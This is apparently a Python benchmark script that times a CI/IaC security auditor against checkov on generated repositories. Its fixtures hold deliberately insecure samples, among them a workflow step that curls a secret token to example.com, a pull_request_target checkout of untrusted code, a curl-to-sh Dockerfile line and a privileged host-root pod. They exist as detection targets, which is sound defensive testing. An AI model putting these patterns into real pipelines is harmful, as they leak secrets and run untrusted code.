"""Auditor benchmark: shipcrew against checkov on the same generated files.

    .venv/bin/python bench/audit.py [--repeat 5] [--no-checkov] [--keep DIR] [--workers N]

Two inputs, generated deterministically: a typical PR (3 workflows, 2 Dockerfiles, 1 Helm
chart) and a 500-file repository (workflows, Dockerfiles, manifests, source and docs, a
seeded mix of good and bad). For each: shipcrew in-process (warm: policies compiled once per
process, as in a worker) and as the CLI (`shipcrew audit`, a fresh process, what a CI step
pays), and checkov's CLI on the same directory. checkov is installed by this script in its
own virtualenv under ~/.cache/shipcrew-bench or $SHIPCREW_BENCH_CACHE (pip install checkov),
never into the project's; when that fails, it says
so and prints shipcrew's numbers alone. Findings are compared per (file, rule) with checkov
check ids mapped roughly onto our rule ids.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shlex
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from app.files import Files, write_tree  # noqa: E402
from jobs.auditor import engine as policy_engine  # noqa: E402
from jobs.auditor.core import audit_files  # noqa: E402

CACHE = Path(os.environ.get("SHIPCREW_BENCH_CACHE", Path.home() / ".cache" / "shipcrew-bench"))
CHECKOV_VENV = CACHE / "checkov-venv"

# checkov check id -> our rule (roughly: same concern, not always the same condition).
CHECKOV_TO_OURS = {
    "CKV_K8S_16": "K8S001",
    "CKV_K8S_10": "K8S002", "CKV_K8S_11": "K8S002", "CKV_K8S_12": "K8S002",
    "CKV_K8S_13": "K8S002",
    "CKV_K8S_17": "K8S003", "CKV_K8S_18": "K8S003", "CKV_K8S_19": "K8S003",
    "CKV_K8S_20": "K8S004", "CKV_K8S_23": "K8S004", "CKV_K8S_6": "K8S004",
    "CKV_K8S_14": "K8S006",  # CKV_K8S_43 (image by digest) is stricter than K8S006: unmapped
    "CKV_K8S_8": "K8S007", "CKV_K8S_9": "K8S007",
    "CKV_K8S_22": "K8S008",
    "CKV_K8S_28": "K8S009", "CKV_K8S_37": "K8S009", "CKV_K8S_39": "K8S009",
    "CKV_K8S_31": "K8S010", "CKV_K8S_38": "K8S011",
    "CKV_DOCKER_7": "DKR001", "CKV_DOCKER_3": "DKR002", "CKV_DOCKER_8": "DKR002",
    "CKV_DOCKER_4": "DKR003",
    "CKV2_GHA_1": "GHA001", "CKV_GHA_2": "GHA004", "CKV_GHA_3": "GHA005",
    "CKV_GHA_4": "GHA004",
}

GOOD_WORKFLOW = """name: ci{n}
on: [pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - run: make test
"""
BAD_WORKFLOW = """name: release{n}
on:
  pull_request_target:
  issues:
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{{{ github.event.pull_request.head.sha }}}}
      - uses: docker/login-action@v3
      - run: echo "${{{{ github.event.issue.title }}}}"
      - run: curl -d "${{{{ secrets.TOKEN }}}}" https://example.com
"""
PUBLISH_WORKFLOW = """name: image{n}
on:
  push:
    branches: [main]
permissions:
  contents: read
  packages: write
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - uses: docker/build-push-action@53b7df96c91f9c12dcc8a07bcb9ccacbed38856a # v7.3.0
        with:
          push: true
          tags: ghcr.io/acme/app{n}:latest
"""
GOOD_DOCKERFILE = """FROM python:3.12-slim
WORKDIR /app
COPY . .
RUN pip install --no-cache-dir .
USER 10001
HEALTHCHECK CMD python -c "print(1)"
CMD ["python", "-m", "app"]
"""
BAD_DOCKERFILE = """FROM ubuntu:latest
ENV API_TOKEN=abc123notreal
ADD https://example.com/install.sh /tmp/install.sh
RUN curl -sSL https://example.com/install.sh | sh
CMD ["/app/run"]
"""
GOOD_MANIFEST = """apiVersion: apps/v1
kind: Deployment
metadata:
  name: svc{n}
spec:
  selector: {{matchLabels: {{app: svc{n}}}}}
  template:
    metadata: {{labels: {{app: svc{n}}}}}
    spec:
      securityContext: {{runAsNonRoot: true, runAsUser: 10001}}
      containers:
        - name: app
          image: ghcr.io/acme/svc{n}:1.{n}.0
          securityContext: {{allowPrivilegeEscalation: false}}
          resources:
            requests: {{cpu: 100m, memory: 128Mi}}
            limits: {{cpu: 500m, memory: 256Mi}}
          livenessProbe: {{tcpSocket: {{port: 8080}}}}
          readinessProbe: {{tcpSocket: {{port: 8080}}}}
"""
BAD_MANIFEST = """apiVersion: v1
kind: Pod
metadata:
  name: agent{n}
spec:
  hostNetwork: true
  containers:
    - name: agent
      image: busybox
      securityContext:
        privileged: true
  volumes:
    - name: root
      hostPath: {{path: /}}
"""
CHART = {
    "Chart.yaml": "apiVersion: v2\nname: web\nversion: 0.1.0\nappVersion: 1.0.0\n",
    "values.yaml": "image:\n  repository: ghcr.io/acme/web\n  tag: 1.0.0\nport: 8080\n",
    "templates/deployment.yaml": """apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}-web
spec:
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"
          ports:
            - containerPort: {{ .Values.port }}
""",
    "templates/service.yaml": """apiVersion: v1
kind: Service
metadata:
  name: {{ .Release.Name }}-web
spec:
  selector: {app: web}
  ports:
    - port: 80
      targetPort: {{ .Values.port }}
""",
}


def typical_pr() -> Files:
    files: Files = {
        ".github/workflows/ci.yml": GOOD_WORKFLOW.format(n=1),
        ".github/workflows/release.yml": BAD_WORKFLOW.format(n=1),
        ".github/workflows/image.yml": PUBLISH_WORKFLOW.format(n=1),
        "Dockerfile": GOOD_DOCKERFILE,
        "tools/Dockerfile": BAD_DOCKERFILE,
    }
    files.update({f"deploy/helm/web/{p}": t for p, t in CHART.items()})
    return files


def repository(size: int = 500, seed: int = 7) -> Files:
    rng = random.Random(seed)
    files: Files = {}
    kinds = ["workflow"] * 40 + ["dockerfile"] * 40 + ["manifest"] * 120
    kinds += ["source"] * (size - len(kinds) - len(CHART) - 1)
    for n, kind in enumerate(kinds):
        bad = rng.random() < 0.3
        if kind == "workflow":
            template = BAD_WORKFLOW if bad else rng.choice([GOOD_WORKFLOW, PUBLISH_WORKFLOW])
            files[f".github/workflows/wf{n}.yml"] = template.format(n=n)
        elif kind == "dockerfile":
            files[f"services/s{n}/Dockerfile"] = BAD_DOCKERFILE if bad else GOOD_DOCKERFILE
        elif kind == "manifest":
            files[f"k8s/m{n}.yaml"] = (BAD_MANIFEST if bad else GOOD_MANIFEST).format(n=n)
        else:
            files[f"src/pkg{n % 20}/mod{n}.py"] = f"def f{n}(x):\n    return x + {n}\n" * 20
    files.update({f"deploy/helm/web/{p}": t for p, t in CHART.items()})
    files["README.md"] = "# generated benchmark repository\n"
    return files


# --- shipcrew ---------------------------------------------------------------------------------


def ours_in_process(files: Files, repeat: int) -> tuple[float, float, float, set[tuple[str, str]]]:
    """First run (compiles policies), then the median wall time of `repeat` warm runs and the
    median CPU time of the process over them (policy threads run on several cores)."""
    start = time.perf_counter()
    result = audit_files(files)
    first = time.perf_counter() - start
    times, cpu = [], []
    for _ in range(repeat):
        start, start_cpu = time.perf_counter(), time.process_time()
        result = audit_files(files)
        times.append(time.perf_counter() - start)
        cpu.append(time.process_time() - start_cpu)
    found = {(f.path, f.rule) for f in result.findings if f.path}
    return first, statistics.median(times), statistics.median(cpu), found


def ours_cli(root: Path) -> float:
    start = time.perf_counter()
    subprocess.run(ours_cmd(root), capture_output=True, check=False)
    return time.perf_counter() - start


def ours_cmd(root: Path) -> list[str]:
    return [str(ROOT / ".venv/bin/shipcrew"), "audit", str(root), "--format", "json"]


@dataclass
class Timed:
    wall: float  # mean seconds
    cpu: float  # mean user + system seconds, children included


def hyperfine(cmd: list[str], runs: int) -> Timed | None:
    """Mean wall and CPU time of `cmd` over `runs` runs (after one warm-up), by hyperfine."""
    if shutil.which("hyperfine") is None:
        return None
    with tempfile.NamedTemporaryFile(suffix=".json") as out:
        subprocess.run(["hyperfine", "-N", "-i", "-w", "2", "-r", str(runs), "--export-json",
                        out.name, shlex.join(cmd)], capture_output=True, check=True)
        result = json.loads(Path(out.name).read_text())["results"][0]
    return Timed(result["mean"], result["user"] + result["system"])


# --- checkov ----------------------------------------------------------------------------------


def install_checkov() -> Path | None:
    exe = CHECKOV_VENV / "bin" / "checkov"
    if exe.exists():
        return exe
    print(f"installing checkov into {CHECKOV_VENV} (one time) ...", flush=True)
    CACHE.mkdir(parents=True, exist_ok=True)
    steps = [[sys.executable, "-m", "venv", str(CHECKOV_VENV)],
             [str(CHECKOV_VENV / "bin" / "pip"), "install", "-q", "checkov"]]
    for step in steps:
        done = subprocess.run(step, capture_output=True, text=True, check=False)
        if done.returncode != 0:
            print(f"CHECKOV NOT INSTALLED: `{' '.join(step)}` failed:\n"
                  f"{(done.stderr or done.stdout)[-1500:]}")
            return None
    return exe if exe.exists() else None


def checkov_cmd(exe: Path, root: Path) -> list[str]:
    return [str(exe), "-d", str(root), "--framework", "github_actions", "dockerfile",
            "kubernetes", "helm", "secrets", "-o", "json", "--quiet", "--compact",
            "--skip-download"]


def checkov(exe: Path, root: Path) -> tuple[float, set[tuple[str, str]], str]:
    cmd = checkov_cmd(exe, root)
    start = time.perf_counter()
    done = subprocess.run(cmd, capture_output=True, text=True, check=False)
    elapsed = time.perf_counter() - start
    try:
        reports = json.loads(done.stdout or "[]")
    except ValueError:
        return elapsed, set(), f"unparseable output: {(done.stderr or done.stdout)[-500:]}"
    reports = reports if isinstance(reports, list) else [reports]
    found: set[tuple[str, str]] = set()
    for report in reports:
        for check in (report.get("results") or {}).get("failed_checks", []):
            path = str(check.get("file_path", "")).lstrip("/")
            found.add((path, check["check_id"]))
    return elapsed, found, ""


def compare(ours: set[tuple[str, str]], theirs: set[tuple[str, str]]) -> dict[str, Counter]:
    mapped = {(p, CHECKOV_TO_OURS.get(cid, cid)) for p, cid in theirs}
    return {
        "only shipcrew": Counter(r for p, r in ours - mapped),
        "only checkov": Counter(r for p, r in mapped - ours),
        "both": Counter(r for p, r in ours & mapped),
    }


def run(name: str, files: Files, exe: Path | None, repeat: int, keep: Path | None) -> None:
    with tempfile.TemporaryDirectory(prefix="shipcrew-bench-") as tmp:
        root = (keep / name) if keep else Path(tmp)
        write_tree(root, files)
        first, warm, cpu, ours = ours_in_process(files, repeat)
        cli = ours_cli(root)
        print(f"\n== {name}: {len(files)} files ==")
        print(f"shipcrew in-process: first {first * 1000:.0f} ms (incl. compiling policies), "
              f"warm median {warm * 1000:.1f} ms (CPU {cpu * 1000:.0f} ms, up to "
              f"{policy_engine.WORKERS} policy processes); CLI (new process) {cli:.2f} s; "
              f"{len(ours)} (file, rule) findings")
        if exe is None:
            print("checkov: not run (not installed)")
            return
        elapsed, theirs, error = checkov(exe, root)
        if error:
            print(f"checkov: {elapsed:.2f} s but {error}")
            return
        print(f"checkov CLI: {elapsed:.2f} s; {len(theirs)} (file, check) findings")
        print(f"speed-up: CLI vs CLI {elapsed / cli:.1f}x; checkov CLI vs shipcrew warm "
              f"{elapsed / warm:.0f}x (target >= 20x); load {os.getloadavg()[0]:.1f}")
        ours_t, theirs_t = hyperfine(ours_cmd(root), 10), hyperfine(checkov_cmd(exe, root), 3)
        if ours_t and theirs_t:
            # Cold: every run is a fresh process, and outside an RQ job nothing is cached (no
            # Helm render, no compiled policy), which is what a CI step gets.
            print(f"hyperfine, one after the other: shipcrew audit {ours_t.wall:.3f} s "
                  f"(CPU {ours_t.cpu:.3f} s, children included), checkov {theirs_t.wall:.2f} s "
                  f"(CPU {theirs_t.cpu:.2f} s); load {os.getloadavg()[0]:.1f}")
            print(f"whole process, cold, vs checkov's: {theirs_t.wall / ours_t.wall:.1f}x wall, "
                  f"{theirs_t.cpu / ours_t.cpu:.1f}x CPU (target >= 20x)")
        for label, counts in compare(ours, theirs).items():
            print(f"  {label}: " + (", ".join(f"{r} x{n}" for r, n in sorted(counts.items()))
                                     or "none"))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repeat", type=int, default=5)
    parser.add_argument("--no-checkov", action="store_true")
    parser.add_argument("--keep", type=Path, help="write the generated inputs under DIR")
    parser.add_argument("--workers", type=int, help="policy threads in-process (default: cores)")
    args = parser.parse_args()
    if args.workers:
        policy_engine.WORKERS = args.workers
    exe = None if args.no_checkov else install_checkov()
    run("typical PR", typical_pr(), exe, args.repeat, args.keep)
    run("500-file repository", repository(), exe, args.repeat, args.keep)


if __name__ == "__main__":
    main()
